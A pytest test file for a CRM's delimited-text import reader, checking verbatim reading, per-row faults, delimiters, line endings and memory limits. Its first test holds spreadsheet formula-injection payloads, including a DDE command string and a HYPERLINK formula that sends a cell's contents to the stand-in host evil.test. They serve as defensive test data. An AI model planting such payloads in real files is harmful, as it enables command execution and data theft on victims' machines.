"""Reading delimited text: what is in the file is what is read, and one bad record costs no other."""

import csv
import io
import tracemalloc
from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmcore.adapters.files import open_rows
from crmcore.adapters.files.delimited import sniffed
from crmcore.adapters.files.limits import MAX_FIELD, MAX_RECORD
from crmcore.domain.errors import ImportRefused
from crmcore.ports.exchange import BadRow, RawRow
from tests.adapters.files.conftest import Opener, cells, faults


def test_cells_that_look_like_formulas_are_read_exactly(opened: Opener) -> None:
    """CSV-01: neutralising on the way in would destroy what the file says."""
    data = (
        b"name,email,note\r\n\"=cmd|' /C calc'!A0\",f1@example.com,x\r\n+1+1,f2@example.com,x\r\n"
        b'-2+3,f3@example.com,x\r\n@SUM(1+1)*cmd,f4@example.com,x\r\n"\t=1+1",f5@example.com,x\r\n'
        b'"\r=1+1",f6@example.com,x\r\n"=HYPERLINK(""http://evil.test/?x=""&A1,""click"")",f7@example.com,x\r\n'
    )
    assert [row["name"] for row in cells(list(opened(data)))] == [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    ]


def test_a_nul_costs_its_row_only(opened: Opener) -> None:
    """CSV-09: PostgreSQL refuses a NUL, SQLite stores it; or the whole file would fail."""
    rows = list(opened(b"name,email\r\nA\x00li,n1@example.com\r\nSara,n2@example.com\r\n"))
    assert cells(rows) == [{"name": "Sara", "email": "n2@example.com"}]
    [bad] = faults(rows)
    assert (bad.line, bad.column, bad.value) == (2, "name", "A\x00li")
    assert "NUL" in bad.reason


@pytest.mark.parametrize("quote", ["", '"'], ids=["plain", "quoted"])
def test_a_huge_field_costs_its_row_only(opened: Opener, quote: str) -> None:
    """CSV-10: the standard reader gives up the whole file at 131,072 characters."""
    huge = f"{quote}{'x' * 200_000}{quote}"
    data = f"name,email,note\r\nAli,h1@example.com,{huge}\r\nSara,h2@example.com,ok\r\n"
    rows = list(opened(data.encode()))
    assert cells(rows) == [{"name": "Sara", "email": "h2@example.com", "note": "ok"}]
    [bad] = faults(rows)
    assert (bad.line, bad.column) == (2, "note")
    assert "field too long" in bad.reason
    assert len(bad.value) < 300
    assert len(bad.raw) < MAX_FIELD


def test_the_longest_allowed_field_is_read(opened: Opener) -> None:
    """The limit would be one less than it says."""
    rows = list(opened(f'name,note\nAli,{"x" * MAX_FIELD}\nSara,"{"y" * MAX_FIELD}"\n'.encode()))
    assert [len(str(row["note"])) for row in cells(rows)] == [MAX_FIELD, MAX_FIELD]


def test_a_line_without_end_is_given_up_and_left_behind(opened: Opener) -> None:
    """A file of one endless line would fill the memory; cut silently, it would be stored as half a record."""
    endless = "x," * MAX_RECORD
    rows = list(opened(f"name,note\nAli,a\n{endless}\nSara,b\n".encode()))
    assert [row["name"] for row in cells(rows)] == ["Ali", "Sara"]
    assert [(bad.line, "record too long" in bad.reason) for bad in faults(rows)] == [(3, True)]


def test_ragged_rows(opened: Opener) -> None:
    """CSV-12: a missing cell would overwrite as an empty one; surplus cells would vanish; blank lines be rows."""
    data = (
        b"name,email,phone\r\nAli,r1@example.com\r\nSara,r2@example.com,1,2,3\r\n\r\n  \r\n"
        b"Mina,r3@example.com,09121234567\r\n"
    )
    rows = list(opened(data))
    assert rows[0] == RawRow(2, {"name": "Ali", "email": "r1@example.com"})
    assert isinstance(rows[1], BadRow)
    assert (rows[1].line, rows[1].raw) == (3, "Sara,r2@example.com,1,2,3")
    assert rows[2] == RawRow(6, {"name": "Mina", "email": "r3@example.com", "phone": "09121234567"})
    assert len(rows) == 3


def test_quoted_line_ends_belong_to_the_cell(opened: Opener) -> None:
    """CSV-13: one record would become three, or its line ends would be changed, or later line numbers be off."""
    data = (
        b'name,email,address\r\nAli,q1@example.com,"No 1\r\nSt 2\nCity"\r\n'
        b'Sara,q2@example.com,"He said ""hi"", left"\r\nMina,q3@example.com,x\r\n'
    )
    rows = list(opened(data))
    assert [row["address"] for row in cells(rows)] == ["No 1\r\nSt 2\nCity", 'He said "hi", left', "x"]
    assert [row.line for row in rows] == [2, 5, 6]


def test_a_name_twice_in_the_header_is_refused(opened: Opener) -> None:
    """CSV-15: the second column would silently replace the first."""
    with pytest.raises(ImportRefused, match="'email'"):
        opened(b"name,email, email \r\nAli,first@example.com,second@example.com\r\n")


@pytest.mark.parametrize(
    ("header", "delimiter"),
    [
        ("name;email;amount", ";"),  # CSV-17
        ("name\temail\twork, home", "\t"),
        ("name|email", "|"),
        ("name", ","),
        ('"Last, first, middle";email', ";"),  # commas inside quotes delimit nothing
    ],
)
def test_the_header_tells_the_delimiter(header: str, delimiter: str) -> None:
    """A whole row would become one cell."""
    assert sniffed(header) == delimiter


def test_semicolons_leave_decimal_commas_alone(opened: Opener) -> None:
    """CSV-17: the comma of an amount would start a new cell."""
    rows = cells(list(opened(b"name;email;amount\r\nAli;s1@example.com;1.234,56\r\nSara;s2@example.com;12,00\r\n")))
    assert [row["amount"] for row in rows] == ["1.234,56", "12,00"]


@pytest.mark.parametrize(
    "name",
    [
        "۰۹۱۲۳۴۵۶۷۸۹",  # CSV-19: digits of other scripts
        "Ali\u202egpj.exe",  # CSV-26: bidi controls
        "\u2067شرکت ACME (ایران) 123",
        "علی\u200c کریمی",  # CSV-28: a zero-width non-joiner
        "علي كريمي",  # CSV-28: Arabic letters for Persian ones
        " Ali ",
        '5" pipe',
        "a\u2028b\x85c\x0bd",  # line ends for str.splitlines, not for a file
        "\ufeff",
    ],
)
def test_cells_are_kept_verbatim(opened: Opener, name: str) -> None:
    """A well-meant change on the way in could never be undone."""
    assert cells(list(opened(f"email,name\r\na@example.com,{name}\r\n".encode()))) == [
        {"email": "a@example.com", "name": name}
    ]


def test_an_empty_cell_is_an_empty_text(opened: Opener) -> None:
    """CSV-24: an empty amount could not be told from a missing one, or would be guessed."""
    rows = cells(list(opened(b"name,email,amount\r\nF,m6@example.com,\r\nG,m7@example.com\r\n")))
    assert [row.get("amount") for row in rows] == ["", None]


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"\n \r\n", b"name,email", b"name,email\r\n", b"\xff\xfe"])
def test_a_file_without_rows_has_none(opened: Opener, data: bytes) -> None:
    """CSV-30: an empty export would end in an error."""
    assert list(opened(data)) == []


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b'name,"email\nAli,a\n', "never properly closed"),  # every row would be taken for a header
        (b"na\x00me,email\n", "NUL"),
        (b",,\nname,email\n", "names no column"),  # an export with an empty first row
        (",".join(map(str, range(1001))).encode(), "1001 columns"),
    ],
)
def test_a_header_that_cannot_be_read_is_refused(opened: Opener, data: bytes, said: str) -> None:
    """All rows would be rejected one by one, or be read under wrong names."""
    with pytest.raises(ImportRefused, match=said):
        opened(data)


def test_a_column_without_a_name_is_left_out_if_it_is_empty(opened: Opener) -> None:
    """A spreadsheet's empty columns would stop the import, or what somebody wrote there would be lost unseen."""
    source = opened(b"name,,email,\nAli,,a@example.com,\nSara,note,s@example.com,\nMina, ,m@example.com\n")
    rows = list(source)
    assert source.columns == ("name", "email")
    assert cells(rows) == [
        {"name": "Ali", "email": "a@example.com"},
        {"name": "Mina", "email": "m@example.com"},
    ]
    assert [(bad.line, bad.column, bad.value) for bad in faults(rows)] == [(3, None, "note")]


@pytest.mark.parametrize(
    "data",
    [
        b"name,email\rAli,a@example.com\r\rSara,s@example.com\r",  # old Macintosh
        b"name,email\nAli,a@example.com\n\nSara,s@example.com",  # no end of the last line
        b"name,email\r\r\nAli,a@example.com\r\r\nSara,s@example.com\r\r\n",  # converted twice
        b"name,email\r\nAli,a@example.com\nSara,s@example.com\r\n",  # mixed
        b'"name","email"\r\n"Ali","a@example.com"\r\n"Sara",s@example.com\r\n',
    ],
)
def test_every_kind_of_line_end_is_read(opened: Opener, data: bytes) -> None:
    """A file of another system would be one long line, or keep carriage returns in its cells."""
    assert cells(list(opened(data))) == [
        {"name": "Ali", "email": "a@example.com"},
        {"name": "Sara", "email": "s@example.com"},
    ]


def test_line_feeds_inside_cells_of_a_macintosh_file_stay(opened: Opener) -> None:
    """Excel for Macintosh ends rows by carriage returns and lines within a cell by line feeds."""
    rows = list(opened(b'name,street\rAli,"No 1\nSt 2"\rSara,x\r'))
    assert cells(rows) == [{"name": "Ali", "street": "No 1\nSt 2"}, {"name": "Sara", "street": "x"}]


def test_a_bare_carriage_return_outside_quotes_is_a_fault(opened: Opener) -> None:
    """Two halves of a row would be taken for two rows."""
    data = b'name,email\nAli\rReza,a@example.com\nMina\rNeda,"m@example.com"\nSara,s@example.com\n'
    rows = list(opened(data))
    assert [row["name"] for row in cells(rows)] == ["Sara"]
    assert [(bad.line, bad.column) for bad in faults(rows)] == [(2, "name"), (3, "name")]


def test_rows_can_be_read_again_from_the_start(opened: Opener) -> None:
    """The import scans a column before it reads the rows: the second pass would find nothing."""
    source = opened(b"name\nAli\nSara\n")
    assert list(source) == list(source) != []


def test_a_file_is_never_held_as_a_whole(opened: Opener) -> None:
    """A file larger than the memory could not be imported: these rows, kept, would take 40 MB and more."""
    data = b"name,email\n" + b"Ali,a@example.com\n" * 100_000
    tracemalloc.start()
    try:
        start, _ = tracemalloc.get_traced_memory()
        count = sum(1 for _ in opened(data))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 100_000
    assert peak - start < 8_000_000


@given(data=st.binary() | st.text(alphabet='a",;\t\r\n |\x00é\ufeff').map(str.encode))
def test_no_bytes_break_the_reader(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    """Some file would end in a traceback instead of a report."""
    path = tmp_path_factory.mktemp("any") / "any.csv"
    path.write_bytes(data)
    try:
        rows = list(open_rows(path))
    except ImportRefused:
        return
    assert all(isinstance(row, RawRow | BadRow) for row in rows)
    assert [row.line for row in rows] == sorted({row.line for row in rows})


@given(text=st.text(alphabet='ab",\n '))
def test_what_the_standard_reader_accepts_is_read_alike(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    """The same file would hold other values here than everywhere else."""
    try:
        expected = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    except csv.Error:
        return  # faults have tests of their own
    header = ",".join(map(str, range(max(map(len, expected), default=1) or 1)))
    path = tmp_path_factory.mktemp("same") / "in.csv"
    path.write_bytes(f"{header}\n{text}".encode())
    found = [list(row.values()) for row in cells(list(open_rows(path, delimiter=",")))]
    assert [row for row in found if not _blank(row)] == [row for row in expected if not _blank(row)]


def _blank(row: Sequence[object]) -> bool:
    return not row or (len(row) == 1 and not str(row[0]).strip())
